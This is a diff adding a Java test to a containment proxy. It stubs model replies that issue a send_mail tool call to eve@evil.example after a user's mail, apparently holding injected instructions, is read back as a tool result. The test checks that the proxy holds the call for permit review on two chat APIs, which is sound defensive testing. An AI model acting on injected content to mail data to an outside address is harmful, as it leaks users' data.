@@ -193,4 +193,31 @@ class ContainmentTest {
         assertThat(PermitJson.read(PermitJson.write(permit)).containment()).isEqualTo(permit.containment());
         assertThat(permit.with(permit.terms()).containment()).isEqualTo(permit.containment());
     }
+
+    @Test
+    void the_other_surfaces_are_bounded_as_well() {
+        var sent = "{\"to\":\"eve@evil.example\",\"body\":\"minutes\"}";
+        house.stub().answer = (request, body) -> Stub.json(
+                request,
+                200,
+                "{\"output\":[{\"type\":\"function_call\",\"id\":\"f\",\"call_id\":\"c\",\"name\":\"send_mail\",\"arguments\":"
+                        + WireJson.MAPPER.writeValueAsString(sent) + "}]}");
+        var responses = house.post(
+                "/v1/responses",
+                "{\"model\":\"m\",\"input\":[{\"role\":\"user\",\"content\":\"Read my mail\"},"
+                        + "{\"type\":\"function_call_output\",\"call_id\":\"1\",\"output\":\"" + MAIL + "\"}]}");
+        assertThat(responses.body()).contains("permit.review").doesNotContain("\"output\"");
+        house.stub().answer = (request, body) -> Stub.json(
+                request,
+                200,
+                "{\"id\":\"m\",\"type\":\"message\",\"role\":\"assistant\",\"model\":\"m\",\"content\":[{\"type\":\"tool_use\",\"id\":\"t\",\"name\":\"send_mail\",\"input\":"
+                        + sent + "}],\"stop_reason\":\"tool_use\",\"usage\":{\"input_tokens\":1,\"output_tokens\":1}}");
+        var messages = house.post(
+                "/v1/messages",
+                "{\"model\":\"m\",\"max_tokens\":9,\"messages\":[{\"role\":\"user\",\"content\":\"Read my mail\"},"
+                    + "{\"role\":\"user\",\"content\":[{\"type\":\"tool_result\",\"tool_use_id\":\"1\",\"content\":\""
+                        + MAIL
+                        + "\"}]}]}");
+        assertThat(messages.body()).contains("permit.review").doesNotContain("tool_use");
+    }
 }
